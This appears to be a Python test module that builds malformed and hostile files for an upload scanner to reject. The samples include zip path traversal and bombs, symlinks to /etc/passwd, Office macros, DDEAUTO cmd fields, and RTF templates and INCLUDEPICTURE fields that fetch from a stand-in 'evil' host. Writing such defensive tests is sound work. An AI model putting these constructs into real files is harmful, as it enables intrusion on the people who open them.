# ruff: noqa: E501  (one row a case)
"""Attacks by zips, by files of old office programs and rich text, and by files that are not what they are called."""

import stat
import struct
import zipfile
import zlib
from io import BytesIO

from tests import office_files as o
from tests.hostile.attacks import Attack
from tests.hostile.enclosures import pdf
from tests.hostile.packages import given

_ONE = o.zipped({"a.txt": b"A word."})
_LIST, _END = b"PK\x01\x02", b"PK\x05\x06"
_LEAVES = "in it can lead out of the folder in which it is unpacked"
_OTHER = "so that a program could take it for another kind"
_MACROS = "it carries macros, which are programs"
_DDE = "it starts other programs, or asks them for something (DDE)"
_LOCKED = "it is locked by a password"


def _zip(name: str, says: str, **files: bytes) -> Attack:
    return given(name, o.zipped(files), says)


def _named(name: str, file: str, says: str = "") -> Attack:
    return given(name, o.zipped({file: b"A word."}), says or f"'{file}' {_LEAVES}")


def _listed(content: bytes, at: int, written: bytes) -> bytes:
    """Write something else into every row of an archive's list."""
    rows = content.split(_LIST)
    return _LIST.join([rows[0], *(row[: at - 4] + written + row[at - 4 + len(written) :] for row in rows[1:])])


def _linked(mode: int) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        entry = zipfile.ZipInfo("a.txt")
        entry.external_attr = mode << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def _moved(content: bytes, by: int) -> bytes:
    """Say that the list, and what it lists, stands further behind."""
    listed = content.index(_LIST)
    rows = _listed(content, 42, struct.pack("<I", by))
    end = rows.index(_END)
    return rows[: end + 16] + struct.pack("<I", listed + by) + rows[end + 20 :]


def _within() -> bytes:
    """Two names for the same packed bytes."""
    two = o.zipped({"a.txt": b"A word.", "b.txt": b"A word."})
    second = two.rindex(_LIST)
    at = struct.unpack_from("<I", two, second + 42)[0]
    inner = two[: second + 42] + struct.pack("<I", at) + two[second + 46 :]
    first = inner.index(_LIST)
    return inner[: first + 20] + struct.pack("<I", 60) + inner[first + 24 :]


def _unlisted() -> bytes:
    """A file before the list that is not in the list."""
    hidden = o.zipped({"evil.exe": b"MZ"})
    listed, extra = _ONE.index(_LIST), hidden[: hidden.index(_LIST)]
    end = _ONE.index(_END)
    return _ONE[:listed] + extra + _ONE[listed : end + 16] + struct.pack("<I", listed + len(extra)) + _ONE[end + 20 :]


def _far() -> bytes:
    """The second file stands where nothing does."""
    two = o.zipped({"a.txt": b"A word.", "b.txt": b"A word."})
    second = two.rindex(_LIST) + 42
    gone = two[:second] + struct.pack("<I", 1 << 20) + two[second + 4 :]
    return b"\0\0\0\0".join(gone.rsplit(b"PK\3\4", 1))


_MANY = o.zipped({f"{n}.txt": b"" for n in range(4001)})
_HUGE = _listed(o.zipped({f"{n}.txt": b"A" for n in range(21)}), 24, struct.pack("<I", 20 << 20))
_STEEP = _listed(_ONE, 24, struct.pack("<I", 100 << 20))
_LARGE = _listed(_ONE, 24, struct.pack("<I", 300 << 20))
ZIPS: tuple[Attack, ...] = (
    _named("zip-climbs-out", "a/../../b.txt"),
    _named("zip-absolute", "/etc/b.txt"),
    _named("zip-drive", "C:/b.txt"),
    _named("zip-backslash", r"a\b.txt"),
    _named("zip-name-turned-round", "plan\u202efdp.exe", "a name in it holds a sign that is not seen"),
    _named("zip-name-of-two-lines", "a\nb.txt", "a name in it holds a sign that is not seen"),
    given("zip-name-cut-short", o.zipped({"a.exeX.txt": b"MZ"}).replace(b"X.txt", b"\0.txt"), "a name in it holds a sign that is not seen"),
    _zip("zip-names-alike", "in it lie 'A.txt' and 'a.txt'", **{"A.txt": b"x", "a.txt": b"y"}),
    given("zip-name-twice", o.zipped({"a.txt": b"x", "b.txt": b"y"}).replace(b"b.txt", b"a.txt"), "two files in it are called 'a.txt'"),
    given("zip-link", _linked(stat.S_IFLNK | 0o777), "'a.txt' in it is a link or a device"),
    given("zip-device", _linked(stat.S_IFCHR | 0o666), "'a.txt' in it is a link or a device"),
    given("zip-bomb-steep", _STEEP, "a.txt in it is packed 200 times smaller than it is"),
    given("zip-bomb-large", _LARGE, "a.txt in it would have more than 200 MB"),
    given("zip-bomb-of-many", _MANY, "it has 4001 parts, and 4000 are the most"),
    given("zip-bomb-in-all", _HUGE, "unpacked it would have more than 400 MB"),
    given("zip-bomb-within", _within(), "files in it lie within one another"),
    given("zip-locked", _listed(_ONE, 8, b"\1"), _LOCKED),
    given("zip-damaged", o.zipped({"a.txt": b"A word."}, zipfile.ZIP_STORED).replace(b"A word.", b"A sword"), "it is damaged: a.txt cannot be unpacked"),
    given("zip-breaks-off", _ONE[:-9], "it is damaged: it cannot be unpacked"),
    given("zip-leads-behind-its-end", _far(), "it is damaged: it breaks off"),
    given("zip-empty", b"PK\3\4" + o.zipped({}), "it is empty"),
    given("zip-page-before", b"<html><script>boom()</script>" + _ONE, "it is called .zip, but is none"),
    given("zip-something-before", b"PK\3\4MZ" + _ONE, f"something stands before its beginning, {_OTHER}"),
    given("zip-something-before-told", b"PK\3\4MZ" + _moved(_ONE, 6), f"something stands before its beginning, {_OTHER}"),
    given("zip-page-behind", _ONE + b"<html><script>boom()</script>", f"something stands behind its end, {_OTHER}"),
    given("zip-file-unlisted", _unlisted(), "it holds a file that its own list does not name"),
    _zip("zip-program", "'setup.exe' in it: files that end in '.exe' are not given out", **{"a/setup.exe": b"MZ"}),
    _zip("zip-program-with-dots", "'a.scr' in it: files that end in '.scr' are not given out", **{"a.scr. .": b"MZ"}),
    _zip("zip-link-of-windows", "'a.pdf.lnk' in it: files that end in '.lnk' are not given out", **{"a.pdf.lnk": b"L\0\0\0"}),
    _zip("zip-page", "'a.html' in it: files that end in '.html' are not given out", **{"a.html": b"<p>A"}),
    _zip("zip-script-without-ending", "'install' in it: files that end in '' are not given out", **{"install": b"#!/bin/sh\nboom"}),
    _zip("zip-program-without-ending", "'install' in it: files that end in '' are not given out", **{"install": b"\x7fELF\0"}),
    _zip("zip-program-of-macos", "'._a' in it: files that end in '' are not given out", **{"__MACOSX/._a": b"\xcf\xfa\xed\xfe"}),
    _zip("zip-in-zip", "'b.zip' in it is a zip in a zip", **{"b.zip": _ONE}),
    _zip("zip-of-a-document", f"'b.docx' in it: {_MACROS}", **{"b.docx": o.docx(more={"word/vbaProject.bin": b"x"})}),
    _zip("zip-of-a-pdf", "'b.pdf' in it: it holds JavaScript", **{"b.pdf": pdf(b"/OpenAction<</S/JavaScript/JS(a)>>")}),
    _zip("zip-of-a-drawing", "'b.svg' in it: it holds onload", **{"b.svg": b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="a()"/>'}),
)  # fmt: skip


def _deep() -> bytes:
    content = o.docx()
    for _ in range(5):
        content = o.docx(more={"word/embeddings/a.docx": content})
    return content


def _old(name: str, content: bytes, says: str, *storages: str, **more: bytes) -> Attack:
    main = {"doc": "WordDocument", "xls": "Workbook", "ppt": "PowerPoint Document"}[name[:3]]
    return given(name, o.compound({main: content, **more}, storages), says)


def _slides(content: bytes, kind: int) -> bytes:
    """Write a record of PowerPoint ([MS-PPT] 2.3.1) behind 4,000 bytes."""
    return bytes(4000) + struct.pack("<HHI", kind, 0x1011, len(content)) + content


_VBA = o.compound({"dir": b"x"}, ("VBA",))
_PPT_MACROS = b"\x1f\0\xff\3\x14\0\0\0\2\0\0\4\x0c\0\0\0" + struct.pack("<III", 1, 1, 2)
_MACROSHEET = (0x85, struct.pack("<IBB", 0, 0, 1) + b"\3\0One")
_IN = "'a.docx' in it: "
_LINK = b"\1\0\0\2\1\0\0\0"
OLD: tuple[Attack, ...] = (
    _old("doc-macros", o.DOC, _MACROS, "Macros", "VBA"),
    _old("xls-macros", o.XLS, _MACROS, "_VBA_PROJECT_CUR"),
    _old("xls-macro-sheet", o.records((0x809, bytes(16)), _MACROSHEET), _MACROS),
    _old("ppt-macros", bytes(4000) + _PPT_MACROS, _MACROS),
    _old("ppt-macros-packed", _slides(struct.pack("<I", len(_VBA)) + zlib.compress(_VBA), 0x10), "it carries macros in an embedded object"),
    _old("ppt-macros-unpacked", _slides(_VBA, 0), "it carries macros in an embedded object"),
    _old("doc-encloses", o.DOC, "it encloses a file of any kind", **{"\x01Ole10Native": b"evil.exe"}),
    _old("doc-object-linked", o.DOC, "it shows what lies in another file", **{"\x01Ole": _LINK}),
    _old("doc-dde", o.DOC + b"\x13 DDEAUTO c:\\\\cmd \x14\x15", _DDE),
    _old("doc-dde-utf-16", o.DOC + "\x13 DDEAUTO c:\\\\cmd \x14\x15".encode("utf-16-le"), _DDE),
    _old("doc-locked", o.DOC[:11] + b"\1" + o.DOC[12:], _LOCKED),
    _old("xls-locked", o.records((0x809, bytes(16)), (0x2F, bytes(54))), _LOCKED),
    _old("ppt-locked", bytes(4096), _LOCKED, **{"EncryptedSummary": b"x"}),
    given("doc-is-a-program-of-installers", o.compound({"!_StringData": b"x"}), "it is called .doc, but is none"),
    given("doc-of-rich-text", rb"{\rtf1 {\object\objemb{\*\objdata 0105}}}", "it embeds a file"),
    given("rtf-object", rb"{\rtf1 {\object\objautlink\objupdate{\*\objdata 0105}}}", "it embeds a file"),
    given("rtf-object-behind-bytes", b"{\\rtf1 {\\pict\\bin1 \\\\objdata 0105}}", "it embeds a file"),
    given("rtf-template", rb"{\rtf1 {\*\template https://evil.example/x.dotm}}", "it asks for something elsewhere when it is opened (template)"),
    given("rtf-template-in-signs", rb"{\rtf1 {\*\template \u104?\u116?\'74\u112?://evil.example}}", "it asks for something elsewhere when it is opened (template)"),
    given("rtf-dde", rb"{\rtf1 {\field{\*\fldinst {\b DDE}AUTO cmd}}}", _DDE),
    given("rtf-field-fetches", rb'{\rtf1 {\field{\*\fldinst INCLUDEPICTURE "\\\\evil\\x.png"}}}', "it asks for something elsewhere (INCLUDEPICTURE)"),
    given("rtf-of-fields", b"{\\rtf1 " + b"{\\fldinst a}" * 20_001 + b"}", "it has more than 20000 fields"),
    given("docx-within-itself", _deep(), f"{3 * _IN}files lie in it within files, deeper than anybody looks"),
)  # fmt: skip


def _none(name: str, content: bytes) -> Attack:
    return given(name, content, f"it is called .{name.partition('-')[0]}, but is none")


_PROGRAM = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff"
_AVIF = b"\0\0\0\x1cftypavif\0\0\0\0mif1avif"
MISNAMED: tuple[Attack, ...] = (
    *(_none(f"{ending}-is-a-program", _PROGRAM) for ending in "mp3 mp4 m4a mov ogg opus wav flac webm webp avif heic vtt tif txt csv json".split()),
    _none("mp4-is-a-picture", _AVIF),
    _none("avif-is-a-film", b"\0\0\0\x18ftypisom\0\0\0\0mp42"),
    _none("webp-is-a-sound", b"RIFF\x24\0\0\0WAVEfmt "),
    _none("wav-is-a-picture", b"RIFF\x24\0\0\0WEBPVP8 "),
    _none("vtt-is-a-text", b"WEBVTTs are subtitles"),
    _none("txt-is-a-zip", _ONE),
    _none("tsv-is-a-pdf", pdf(b"")),
    _none("ics-is-rich-text", b"{\\rtf1 A word.}"),
    given("vtt-is-a-page", b"<html><script>boom()</script>", "it begins as a web page"),
)  # fmt: skip
EVERY = (*ZIPS, *OLD, *MISNAMED)
